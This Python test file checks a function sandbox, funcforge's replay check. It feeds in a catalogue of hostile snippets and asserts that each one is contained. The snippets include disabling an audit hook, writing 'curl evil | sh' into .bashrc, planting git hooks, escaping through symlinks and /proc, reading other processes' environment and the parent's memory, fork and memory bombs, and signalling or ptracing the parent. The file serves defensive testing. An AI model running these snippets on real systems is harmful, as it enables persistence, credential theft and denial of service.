"""Hostile tool functions through the replay check: contained, reported as that call's error.

Each function below is what an attacker would write (the issue's catalogue:
guards switched off through `gc`, writes by every route, reads of `$HOME`, the
workspace and other processes, forks, daemons, signals to the parent, memory
and CPU bombs, floods, a monkeypatched worker, lies on the result channel,
planted git hooks). Each is the *new* version of a function in a replay check
against a harmless old version. After each: funcforge (this process) is alive
and got a report, the call is an error, no file outside the sandbox changed
or appeared, no process is left running, and the secrets planted in this
process's environment and in a fake `$HOME` and workspace appear nowhere.
"""

from __future__ import annotations

import hashlib
import os
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from funcforge.fsutil import dumps
from funcforge.optimizer.replay import LoggedCall, check_calls

SECRET = "sk-hostile-secret-5f0c1e"
OLD = "def attack(home, ws, marker, port):\n    return 'harmless'\n"

PRELUDE = """
import ctypes, gc, os, posix, signal, socket, sys
libc = ctypes.CDLL(None, use_errno=True)


def guard_off():
    # Switch the worker's audit hook off (found through gc), as the issue's attacker did.
    found = 0
    for obj in gc.get_objects():
        try:
            if type(obj).__name__ == "_Guard":
                obj.active = False
                found += 1
        except Exception:
            pass
    if not found:
        raise RuntimeError("the guard was not found")


def check(rc, what):
    if rc == -1:
        raise OSError(ctypes.get_errno(), what)
    return rc


def attack(home, ws, marker, port):
"""

ATTACKS: dict[str, str] = {
    "gc_guard_off_then_posix_system": """
    guard_off()
    rc = posix.system(f"echo {os.environ} > {marker}")
    if rc != 0:
        raise OSError(rc, "system failed")
""",
    "os_open_dir_fd_into_bashrc": """
    fd = os.open(home, os.O_RDONLY | os.O_DIRECTORY)
    out = os.open(".bashrc", os.O_WRONLY | os.O_APPEND, dir_fd=fd)
    os.write(out, b"curl evil | sh\\n")
""",
    "dir_fd_with_guard_off_into_the_workspace": """
    guard_off()
    fd = os.open(ws + "/tools", os.O_RDONLY | os.O_DIRECTORY)
    out = os.open("tool.py", os.O_WRONLY | os.O_TRUNC, dir_fd=fd)
    os.write(out, b"owned = True\\n")
""",
    "plant_git_hook": """
    guard_off()
    path = ws + "/.git/hooks/post-commit"
    with open(path, "w") as fh:
        fh.write("#!/bin/sh\\ntouch " + marker + "\\n")
    os.chmod(path, 0o755)
""",
    "ctypes_open_past_the_audit_hook": """
    check(libc.open(marker.encode(), os.O_WRONLY | os.O_CREAT, 0o644), "open")
""",
    "symlink_to_bashrc": """
    guard_off()
    link = "link-" + os.urandom(4).hex()
    os.symlink(home + "/.bashrc", link)
    with open(link, "a") as fh:
        fh.write("evil\\n")
""",
    "hard_link_to_bashrc": """
    guard_off()
    hard = "hard-" + os.urandom(4).hex()
    os.link(home + "/.bashrc", hard)
    with open(hard, "a") as fh:
        fh.write("evil\\n")
""",
    "proc_self_cwd_and_root": """
    guard_off()
    for base in ("/proc/self/cwd/../../..", "/proc/self/root", "/proc/1/root", "/proc/1/cwd/../.."):
        try:
            with open(base + marker, "w") as fh:
                fh.write("escaped")
        except OSError:
            continue
    raise PermissionError("no route out")
""",
    "read_gitconfig_in_home": """
    guard_off()
    return open(home + "/.gitconfig").read()
""",
    "read_the_workspace_git_config": """
    guard_off()
    return open(ws + "/.git/config").read()
""",
    "read_other_processes_environ": """
    guard_off()
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                found.append(open(f"/proc/{pid}/environ", "rb").read().decode("latin-1"))
            except OSError:
                pass
    if not any(found):
        raise PermissionError("nothing readable")
    return found
""",
    "read_parent_memory": """
    guard_off()
    with open(f"/proc/{os.getppid()}/mem", "rb") as fh:
        return fh.read(16).hex()
""",
    "environment_has_no_secret": """
    env = dict(os.environ)
    if not any("secret" in v for v in env.values()):
        raise LookupError("no secret in " + ",".join(sorted(env)))
    return env
""",
    "fork_bomb_os": """
    while True:
        os.fork()
""",
    "fork_bomb_posix": """
    guard_off()
    for _ in range(10000):
        if posix.fork() == 0:
            while True:
                pass
""",
    "fork_bomb_ctypes": """
    for _ in range(10000):
        if check(libc.fork(), "fork") == 0:
            while True:
                pass
""",
    "daemon_double_fork_setsid": """
    if check(libc.fork(), "fork") == 0:
        libc.setsid()
        if libc.fork() == 0:
            libc.sleep(60)
            open(marker, "w").write("daemon")
        libc._exit(0)
    return "daemon started"
""",
    "thread_bomb": """
    import threading
    for _ in range(100000):
        threading.Thread(target=libc.pause, daemon=True).start()
""",
    "infinite_loop": """
    while True:
        pass
""",
    "infinite_loop_with_cpu_limit_lifted": """
    import resource
    resource.setrlimit(resource.RLIMIT_CPU, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    while True:
        pass
""",
    "memory_bomb": """
    blocks = []
    while True:
        blocks.append(bytearray(64 * 1024 * 1024))
""",
    "memory_bomb_mmap": """
    import mmap
    maps = [mmap.mmap(-1, 1 << 30) for _ in range(64)]
    for m in maps:
        m[:] = b"x" * len(m)
""",
    "os_exit": """
    os._exit(0)
""",
    "system_exit": """
    raise SystemExit(0)
""",
    "keyboard_interrupt": """
    raise KeyboardInterrupt
""",
    "base_exception": """
    raise BaseException("not an Exception")
""",
    "network_connect": """
    guard_off()
    s = socket.socket()
    s.settimeout(2)
    s.connect(("127.0.0.1", port))
    return "connected"
""",
    "signal_parent_os_kill": """
    os.kill(os.getppid(), signal.SIGKILL)
""",
    "signal_everyone_ctypes": """
    for pid in (os.getppid(), 1, -1, 0):
        check(libc.kill(pid, 9), f"kill {pid}")
""",
    "pidfd_send_signal_to_the_parent": """
    fd = check(libc.syscall(434, os.getppid(), 0), "pidfd_open")
    check(libc.syscall(424, fd, 9, None, 0), "pidfd_send_signal")
""",
    "ptrace_the_supervisor": """
    check(libc.ptrace(16, os.getppid(), None, None), "PTRACE_ATTACH")
""",
    "new_user_namespace": """
    check(libc.unshare(0x10000000), "unshare(CLONE_NEWUSER)")
""",
    "stdout_flood": """
    for _ in range(50):
        os.write(1, b"x" * (1 << 20))
        os.write(2, b"y" * (1 << 20))
    print("z" * (1 << 24))
    raise RuntimeError("flooded")
""",
    "monkeypatch_the_worker": """
    import json
    json.dumps = lambda *a, **k: "forged answer, not JSON"
    return 42
""",
    "lie_on_the_result_channel": """
    line = b'{"ok": true, "value_json": "expected", "rendered": "expected", "seq": 0}\\n'
    for fd in range(3, 64):
        try:
            os.write(fd, line * 4)
        except OSError:
            pass
    return "expected"
""",
    "sqlite_outside": """
    guard_off()
    import sqlite3
    sqlite3.connect(marker).execute("create table t (x)")
""",
}


def _tree_hash(root: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(root.rglob("*")):
        digest.update(str(path.relative_to(root)).encode())
        if path.is_file() and not path.is_symlink():
            digest.update(path.read_bytes())
    return digest.hexdigest()


def _descendants(root: int | None = None) -> set[int]:
    """Processes below `root` (default: this one), by parent pid."""
    parents: dict[int, int] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                stat = Path(f"/proc/{entry}/stat").read_text()
            except OSError:
                continue
            parents[int(entry)] = int(stat.rsplit(")", 1)[1].split()[1])
    out: set[int] = set()
    frontier = {os.getpid() if root is None else root}
    while frontier:
        children = {p for p, pp in parents.items() if pp in frontier and p not in out}
        out |= children
        frontier = children
    return out


@pytest.fixture(scope="module")
def host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Path]]:
    base = tmp_path_factory.mktemp("hostile")
    home = base / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# bashrc\n")
    (home / ".gitconfig").write_text(f"[user]\n  token = {SECRET}\n")
    ws = base / "ws"
    (ws / "tools").mkdir(parents=True)
    (ws / "tools" / "tool.py").write_text(OLD)
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    subprocess.run(["git", "-C", str(ws), "config", "user.token", SECRET], check=True)
    saved = {k: os.environ.get(k) for k in ("HOME", "OPENAI_API_KEY", "FUNCFORGE_TEST_SECRET")}
    os.environ.update(HOME=str(home), OPENAI_API_KEY=SECRET, FUNCFORGE_TEST_SECRET=SECRET)
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    try:
        yield {"base": base, "home": home, "ws": ws, "port": Path(str(server.getsockname()[1]))}
        with pytest.raises(BlockingIOError):
            server.accept()  # nothing ever connected
    finally:
        server.close()
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_hostile_function_is_contained_by_the_replay_check(
    name: str, host: dict[str, Path]
) -> None:
    home, ws = host["home"], host["ws"]
    marker = host["base"] / f"marker-{name}"
    before = {"home": _tree_hash(home), "ws": _tree_hash(ws)}
    running = _descendants()
    args = {"home": str(home), "ws": str(ws), "marker": str(marker), "port": int(str(host["port"]))}
    source = PRELUDE + ATTACKS[name]
    start = time.monotonic()
    report = check_calls(
        "attack",
        OLD,
        source,
        [LoggedCall(args=args, result="harmless")],
        timeout=3.0,
        memory_mb=256,
    )
    assert time.monotonic() - start < 60
    (entry,) = report.entries
    assert entry.old is not None and entry.old.ok  # the harmless version ran fine
    new = entry.new
    assert not new.ok, f"{name} was not an error: {new.short(200)}"
    # A flood fills the worker's capped stderr file, so its second run may fail differently:
    # still a regression (a run that regresses is one, flaky or not).
    assert entry.verdict == "regression"
    text = dumps(report.to_dict())
    assert SECRET not in text, f"{name} leaked the secret"
    assert len(text) < 2_000_000
    assert not marker.exists(), f"{name} wrote {marker}"
    assert _tree_hash(home) == before["home"], f"{name} changed $HOME"
    assert _tree_hash(ws) == before["ws"], f"{name} changed the workspace"
    assert not (ws / ".git" / "hooks" / "post-commit").exists()
    deadline = time.monotonic() + 10
    while _descendants() - running and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not (_descendants() - running), f"{name} left processes running"


def test_switching_the_audit_hook_off_works_so_the_os_fences_are_what_is_tested() -> None:
    """The attacks' `guard_off` really disables the second fence: the OS alone holds."""
    source = (
        PRELUDE
        + """
    try:
        open("/proc/1/status").read()
    except PermissionError:
        pass
    else:
        raise AssertionError("the audit hook should refuse /proc/1 while it is on")
    guard_off()
    return open("/proc/1/status").read().splitlines()[0]
"""
    )
    from funcforge.sandbox import run_calls

    (result,) = run_calls(source, "attack", [{"home": "", "ws": "", "marker": "", "port": 0}])
    assert result.ok, result.short(300)
    assert result.value_json.startswith("Name:")


def test_the_catalogue_names_the_issue(host: dict[str, Path]) -> None:
    """Every route the issue lists has a case (a guard against the catalogue shrinking)."""
    words = " ".join(ATTACKS)
    for needed in (
        "gc_guard_off",
        "dir_fd",
        "git_hook",
        "pidfd",
        "daemon",
        "gitconfig",
        "environ",
        "fork_bomb_os",
        "fork_bomb_posix",
        "fork_bomb_ctypes",
        "os_exit",
        "system_exit",
        "keyboard_interrupt",
        "base_exception",
        "symlink",
        "hard_link",
        "proc_self_cwd",
        "network",
        "signal_parent",
        "stdout_flood",
        "monkeypatch",
        "lie_on_the_result",
        "memory_bomb",
        "infinite_loop",
    ):
        assert needed in words, needed
    assert sys.platform.startswith("linux")
